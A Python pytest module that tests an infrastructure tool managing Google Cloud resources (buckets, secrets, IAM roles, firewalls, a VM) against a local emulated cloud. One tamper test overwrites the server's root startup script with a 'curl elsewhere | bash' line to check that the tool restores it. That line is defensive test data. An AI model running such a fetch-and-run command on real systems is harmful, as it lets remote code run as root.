"""Resources one by one, against the local cloud: made, mended, left alone, removed."""

import base64
import json
from collections.abc import Iterator
from dataclasses import replace
from typing import Any

import pytest

from gcloud_ops.errors import GcloudOpsError, InvalidRequest
from gcloud_ops.resources import Event, Policy, ProjectPolicy, Resource, Roles
from mlflow_infra import server
from mlflow_infra.resources import Place, latest_version, ordered
from mlflow_infra.resources.access import new_account, new_apis
from mlflow_infra.resources.machine import Server
from mlflow_infra.resources.network import Address, new_firewall
from mlflow_infra.resources.roles import bucket_roles, project_roles, secret_roles
from mlflow_infra.resources.storing import Script, new_bucket, new_secret
from mlflow_infra.wanted import (
    ADMIN_SECRET,
    DATABASE_SECRET,
    FIREWALL,
    SERVER,
    TRAINER_FIREWALL,
    TRAINER_SECRET,
)


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory, cloud_of: Any) -> Iterator[Any]:
    """One local cloud for this module: each test leaves it as it was."""
    started = cloud_of(tmp_path_factory.mktemp("cloud"))
    try:
        new_apis(Place(started.clients, started.infra)).ensure(_silent)
        yield started
    finally:
        started.stop()


@pytest.fixture
def place(shared: Any) -> Iterator[Place]:
    """Where the resources are; what is made there is removed again."""
    found = Place(shared.clients, shared.infra)
    yield found
    shared.no_faults()
    resources: tuple[Resource, ...] = (
        Server(found),
        new_firewall(found, FIREWALL),
        new_firewall(found, TRAINER_FIREWALL),
        Address(found),
        bucket_roles(found),
        project_roles(found),
        *(new_secret(found, name) for name in (ADMIN_SECRET, DATABASE_SECRET, TRAINER_SECRET)),
        new_bucket(found),
        new_account(found),
    )
    for resource in resources:
        resource.remove(_silent)


def test_all_have_names_of_their_own(place: Place) -> None:
    """`what` tells them apart on a screen, and each names a role for who may not."""
    resources = ordered(place)
    assert len({one.what for one in resources}) == len(resources)
    assert all(one.role.startswith("roles/") for one in resources)


@pytest.mark.parametrize("kind", [new_account, new_bucket, Address])
def test_made_once_removed_once(place: Place, kind: Any) -> None:
    """A second `ensure` and a second `remove` change nothing, and say so."""
    resource: Resource = kind(place)
    assert resource.observe().state == "missing"
    assert resource.ensure(_silent) == ("made",)
    assert resource.observe().state == "there"
    assert resource.ensure(_silent) == ()
    assert resource.remove(_silent) != ()
    assert resource.observe().state == "missing"
    assert resource.remove(_silent) == ()


def test_a_new_bucket_is_closed_and_keeps_versions(place: Place, shared: Any) -> None:
    """Uniform access, no public access, versions, our label, in the server's region."""
    new_bucket(place).ensure(_silent)
    found = shared.clients.storage.get_bucket(place.infra.bucket)
    assert found.iam_configuration.uniform_bucket_level_access_enabled
    assert found.iam_configuration.public_access_prevention == "enforced"
    assert found.versioning_enabled
    assert found.labels == {"made-by": "mlflow-infra"}
    assert found.location.lower() == place.infra.region


def test_our_bucket_is_closed_again(place: Place, shared: Any) -> None:
    """What somebody opened is a difference, and mended."""
    new_bucket(place).ensure(_silent)
    found = shared.clients.storage.get_bucket(place.infra.bucket)
    found.iam_configuration.public_access_prevention = "inherited"
    found.versioning_enabled = False
    found.patch()
    seen = new_bucket(place).observe()
    assert seen.state == "differs"
    assert "public access prevention is inherited, wanted enforced" in seen.differences
    assert new_bucket(place).ensure(_silent) == tuple(f"mended: {line}" for line in seen.mends)
    assert new_bucket(place).observe().state == "there"


def test_a_bucket_of_before_is_used_and_never_deleted(place: Place, shared: Any) -> None:
    """It has no label of ours: its settings are reported, and what is not ours in it stays."""
    bucket = shared.clients.storage.create_bucket(place.infra.bucket, location="europe-west1")
    try:
        bucket.blob("quick/sweep.json").upload_from_string("mine")
        bucket.blob("mlflow_artifacts/1/model").upload_from_string("a model")
        seen = new_bucket(place).observe()
        assert seen.state == "differs"
        assert seen.mends == ()
        assert "mlflow-infra didn't make it, and won't delete it" in seen.differences
        assert new_bucket(place).ensure(_silent) == ()
        (line,) = new_bucket(place).remove(_silent)
        assert "left the bucket" in line
        assert [blob.name for blob in bucket.list_blobs()] == ["quick/sweep.json"]
    finally:
        bucket.delete(force=True)


def test_a_bucket_goes_with_all_its_versions(place: Place, shared: Any) -> None:
    """Versions that were replaced would keep a bucket from being deleted."""
    new_bucket(place).ensure(_silent)
    bucket = shared.clients.storage.bucket(place.infra.bucket)
    for text in ("one", "two"):
        bucket.blob("mlflow_artifacts/x").upload_from_string(text)
    (line,) = new_bucket(place).remove(_silent)
    assert line.startswith("deleted, with ")
    assert new_bucket(place).observe().state == "missing"


@pytest.mark.parametrize("status", [403, 409])
def test_a_name_that_is_taken_is_said_in_one_line(place: Place, shared: Any, status: int) -> None:
    """Another project's bucket can't be seen, or is found at its making."""
    method = "storage.buckets.get" if status == 403 else "storage.buckets.insert"
    reason = "forbidden" if status == 403 else "conflict"
    shared.fault(method, status=status, reason=reason, message="taken", count=1)
    with pytest.raises(GcloudOpsError, match=r"--bucket OTHER") as caught:
        new_bucket(place).ensure(_silent)
    assert "\n" not in str(caught.value)


def test_a_script_is_written_once_and_mended(place: Place, shared: Any) -> None:
    """It runs as root: what somebody wrote over it is not what the server starts."""
    new_bucket(place).ensure(_silent)
    script = Script(place)
    assert script.ensure(_silent) == ("written",)
    assert script.ensure(_silent) == ()
    blob = shared.clients.storage.bucket(place.infra.bucket).blob(server.script_name(place.infra))
    assert blob.download_as_text() == server.script(place.infra)
    blob.upload_from_string("#!/bin/bash\ncurl elsewhere | bash\n")
    assert script.observe().differences == ("its content was changed",)
    assert script.ensure(_silent) == ("written again: its content was changed",)
    again = shared.clients.storage.bucket(place.infra.bucket).blob(blob.name)
    assert again.download_as_text() == server.script(place.infra)
    assert script.remove(_silent) != ()
    assert script.observe().state == "missing"


def test_secrets_of_users_are_json_and_no_two_alike(place: Place) -> None:
    """Name and password, 256 bits of it."""
    values = []
    for name, user in ((ADMIN_SECRET, "admin"), (TRAINER_SECRET, "trainer")):
        assert new_secret(place, name).ensure(_silent) == ("made",)
        number, text = latest_version(place, name)
        assert number == "1"
        content = json.loads(text)
        assert content["username"] == user
        values.append(content["password"])
    assert len(set(values)) == 2
    assert all(len(one) >= 43 for one in values)


def test_a_given_password_is_stored_and_one_that_is_there_kept(place: Place) -> None:
    """Another one later is a difference for people: the database and the server have the first."""
    assert new_secret(place, DATABASE_SECRET, "chosen-by-me").ensure(_silent) == ("made",)
    assert latest_version(place, DATABASE_SECRET) == ("1", "chosen-by-me")
    other = new_secret(place, DATABASE_SECRET, "another-one")
    assert other.ensure(_silent) == ()
    assert other.observe().differences == ("it isn't the value given now, and is kept",)
    assert "another-one" not in repr(other.observe())
    assert latest_version(place, DATABASE_SECRET) == ("1", "chosen-by-me")


def test_a_secret_without_a_version_gets_one(place: Place, shared: Any) -> None:
    """As an interruption between the two calls leaves it."""
    shared.fault("secretmanager.projects.secrets.addVersion", status=503, count=1)
    with pytest.raises(GcloudOpsError):
        new_secret(place, ADMIN_SECRET).ensure(_silent)
    assert new_secret(place, ADMIN_SECRET).observe().differences == ("it has no version",)
    assert new_secret(place, ADMIN_SECRET).ensure(_silent) == ("made a version",)
    assert latest_version(place, ADMIN_SECRET)[0] == "1"


def test_no_error_tells_a_secret(place: Place, shared: Any) -> None:
    """Neither the text nor what caused it holds the value, plain or as it was sent."""
    value = "s3cret-of-mine"
    sent = base64.b64encode(value.encode()).decode()
    for status in (400, 403, 429, 503):
        shared.fault("secretmanager.projects.secrets.addVersion", status=status, count=1)
        with pytest.raises(GcloudOpsError) as caught:
            new_secret(place, DATABASE_SECRET, value).ensure(_silent)
        error: BaseException | None = caught.value
        while error is not None:
            text = f"{error} {error!r} {getattr(error, 'content', b'')!r}"
            assert value not in text
            assert sent not in text
            error = error.__cause__ or error.__context__


def test_roles_leave_other_bindings_alone(place: Place) -> None:
    """Also of the same role, and those with a condition; ours go, theirs stay."""
    new_account(place).ensure(_silent)
    policy = ProjectPolicy(place)
    before = policy.read()
    mine = f"serviceAccount:{place.infra.account}"
    theirs = {"role": "roles/cloudsql.client", "members": ["user:other@example.com"]}
    conditional = {
        "role": "roles/logging.logWriter",
        "members": [mine],
        "condition": {"title": "until then", "expression": "request.time < timestamp('2030')"},
    }
    policy.write({**before, "version": 3, "bindings": [*before["bindings"], theirs, conditional]})
    roles = project_roles(place)
    assert len(roles.ensure(_silent)) == 3
    assert roles.ensure(_silent) == ()
    assert _members(policy, "roles/cloudsql.client") == {"user:other@example.com", mine}
    assert len(roles.remove(_silent)) == 3
    after = policy.read()
    assert _members(policy, "roles/cloudsql.client") == {"user:other@example.com"}
    assert conditional in after["bindings"]
    policy.write({**after, "bindings": before["bindings"]})


def test_roles_are_granted_though_others_write_too(place: Place) -> None:
    """Who loses against the etag reads again; what the other wrote is still there."""
    new_account(place).ensure(_silent)
    policy = _Raced(ProjectPolicy(place), times=3)
    role = "roles/cloudsql.client"
    roles = Roles(place, policy, lambda: ((role, f"serviceAccount:{place.infra.account}"),))
    assert len(roles.ensure(_silent)) == 1
    members = _members(policy, "roles/viewer")
    assert {f"user:racer-{turn}@example.com" for turn in range(3)} <= members
    roles.remove(_silent)


def test_the_image_in_our_registry_may_be_pulled(place: Place, shared: Any) -> None:
    """Only then: an image of another project is theirs to share."""
    theirs = {role for role, _ in project_roles(place).wanted()}
    ours = replace(
        place.infra, image=f"europe-docker.pkg.dev/{place.infra.project}/images/mlflow-server:1"
    )
    added = {role for role, _ in project_roles(Place(shared.clients, ours)).wanted()} - theirs
    assert added == {"roles/artifactregistry.reader"}


def test_trainers_read_their_secret_alone(place: Place) -> None:
    """Compute's default account, found by the project's number; another one if it is named."""
    accounts = {member for _, member in secret_roles(place, TRAINER_SECRET).wanted()}
    default = f"serviceAccount:{place.number}-compute@developer.gserviceaccount.com"
    assert accounts == {f"serviceAccount:{place.infra.account}", default}
    others = {member for _, member in secret_roles(place, ADMIN_SECRET).wanted()}
    assert others == {f"serviceAccount:{place.infra.account}"}
    named = Place(
        place.clients, replace(place.infra, trainer_account="t@x.iam.gserviceaccount.com")
    )
    assert named.trainers == "t@x.iam.gserviceaccount.com"


def test_a_firewall_rule_follows_its_ranges(place: Place, shared: Any) -> None:
    """Others are a difference that is mended; none is no rule at all."""
    rule = new_firewall(place, FIREWALL)
    assert rule.ensure(_silent) == ("made",)
    assert rule.observe().state == "there"
    moved = Place(shared.clients, replace(place.infra, source_ranges=("203.0.113.7/32",)))
    assert new_firewall(moved, FIREWALL).observe().differences == (
        "source ranges is 127.0.0.0/8, wanted 203.0.113.7/32",
    )
    assert len(new_firewall(moved, FIREWALL).ensure(_silent)) == 1
    assert new_firewall(moved, FIREWALL).observe().state == "there"
    nobody = Place(shared.clients, replace(place.infra, source_ranges=()))
    assert new_firewall(nobody, FIREWALL).observe().differences == ("it is there, wanted none",)
    assert new_firewall(nobody, FIREWALL).ensure(_silent) == ("deleted",)
    assert new_firewall(nobody, FIREWALL).observe().state == "there"
    assert new_firewall(nobody, FIREWALL).ensure(_silent) == ()


def test_trainers_come_in_by_their_account(place: Place, shared: Any) -> None:
    """From their service account to the server's, on the one port; no tag, no range."""
    new_account(place).ensure(_silent)
    assert new_firewall(place, TRAINER_FIREWALL).ensure(_silent) == ("made",)
    found = shared.clients.firewalls.get(project=place.infra.project, firewall=TRAINER_FIREWALL)
    assert list(found.source_service_accounts) == [place.trainers]
    assert list(found.target_service_accounts) == [place.infra.account]
    assert not found.source_ranges
    assert not found.target_tags
    assert [(one.I_p_protocol, list(one.ports)) for one in found.allowed] == [("tcp", ["5000"])]
    assert new_firewall(place, TRAINER_FIREWALL).observe().state == "there"


def test_a_server_is_as_wanted(place: Place) -> None:
    """With its address, account, tag and metadata, and nothing to mend."""
    _with_server(place)
    assert Server(place).observe().state == "there"
    assert Server(place).ensure(_silent) == ()


def test_changed_metadata_is_set_and_the_server_reset(place: Place, shared: Any) -> None:
    """What others put there stays; an interruption before the reset is made good."""
    _with_server(place)
    where = {"project": place.infra.project, "zone": place.infra.zone, "instance": SERVER}
    found = shared.clients.instances.get(**where)
    items = [{"key": item.key, "value": item.value} for item in found.metadata.items]
    metadata = {"items": [*items, {"key": "ssh-keys", "value": "ana:ssh-ed25519 AAAA"}]}
    shared.clients.change(
        "server",
        shared.clients.instances.set_metadata_unary,
        **where,
        metadata_resource={**metadata, "fingerprint": found.metadata.fingerprint},
    )
    assert Server(place).observe().state == "there"
    newer = Server(Place(shared.clients, replace(place.infra, image="example/mlflow-server:2")))
    assert any("mlflow-image" in line for line in newer.observe().mends)
    shared.fault("compute.instances.reset", status=503, count=5)
    with pytest.raises(GcloudOpsError):
        newer.ensure(_silent)
    shared.no_faults()
    assert newer.observe().mends == ("its metadata was changed: `up` resets the VM",)
    shared.calls()
    newer.ensure(_silent)
    assert shared.calls()["compute.instances.reset"] == 1
    assert newer.observe().state == "there"
    found = shared.clients.instances.get(**where)
    kept = {item.key: item.value for item in found.metadata.items}
    assert kept["ssh-keys"] == "ana:ssh-ed25519 AAAA"
    assert kept["mlflow-image"] == "example/mlflow-server:2"
    assert "mlflow-infra-reset" not in kept


def test_a_stopped_server_is_started(place: Place, shared: Any) -> None:
    """Stopped by hand or by Google, `up` starts it."""
    _with_server(place)
    where = {"project": place.infra.project, "zone": place.infra.zone, "instance": SERVER}
    shared.clients.change("server", shared.clients.instances.stop_unary, **where)
    assert Server(place).observe().mends == ("it is stopped: `up` starts it",)
    assert len(Server(place).ensure(_silent)) == 1
    # It boots; what another `up` does meanwhile is to wait.
    assert Server(place).ensure(_silent) == ()
    assert Server(place).observe().state == "there"


def test_what_can_not_be_mended_is_reported(place: Place, shared: Any) -> None:
    """Another machine type means to make the VM anew, and that is for people to say."""
    _with_server(place)
    larger = Server(Place(shared.clients, replace(place.infra, machine_type="e2-standard-2")))
    seen = larger.observe()
    assert seen.mends == ()
    assert seen.differences == (
        "machine type is e2-medium, wanted e2-standard-2: delete the VM and run `up`",
    )
    assert larger.ensure(_silent) == ()


def test_a_server_made_anew_has_the_same_address(place: Place, shared: Any) -> None:
    """The address is reserved, not the VM's own."""
    _with_server(place)
    first = _external_address(place, shared)
    assert Server(place).remove(_silent) == ("deleted",)
    assert Server(place).ensure(_silent) == ("made",)
    assert _external_address(place, shared) == first


@pytest.mark.parametrize("password", ["", "short", "with a space", "x" * 257, "ümlaut-password"])
def test_a_password_that_can_not_be_is_refused(place: Place, password: str) -> None:
    """In one line that does not repeat it."""
    with pytest.raises(InvalidRequest) as caught:
        ordered(place, database_password=password)
    assert not password or password not in str(caught.value)


def test_clients_of_another_project_are_refused(shared: Any) -> None:
    """What is made must not end up elsewhere."""
    with pytest.raises(InvalidRequest, match="another-one is wanted"):
        Place(shared.clients, replace(shared.infra, project="another-one"))


class _Raced:
    """A policy that somebody else writes each time between reading and writing it."""

    def __init__(self, policy: Policy, *, times: int) -> None:
        self._policy = policy
        self._left = times
        self._turn = 0
        self.what, self.apis, self.role = policy.what, policy.apis, policy.role

    def read(self) -> dict[str, Any]:
        found = self._policy.read()
        if self._turn < self._left:
            member = f"user:racer-{self._turn}@example.com"
            self._turn += 1
            theirs = {"role": "roles/viewer", "members": [member]}
            self._policy.write({**found, "bindings": [*found["bindings"], theirs]})
        return found

    def write(self, policy: dict[str, Any]) -> None:
        self._policy.write(policy)


def _silent(event: Event) -> None:
    """Nobody is told."""


def _with_server(place: Place) -> None:
    for resource in (new_account(place), new_bucket(place), Script(place), Address(place)):
        resource.ensure(_silent)
    assert Server(place).ensure(_silent) == ("made",)


def _external_address(place: Place, shared: Any) -> str:
    found = shared.clients.instances.get(
        project=place.infra.project, zone=place.infra.zone, instance=SERVER
    )
    return str(found.network_interfaces[0].access_configs[0].nat_i_p)


def _members(policy: Policy, role: str) -> set[str]:
    return {
        member
        for binding in policy.read()["bindings"]
        if binding["role"] == role and not binding.get("condition")
        for member in binding["members"]
    }
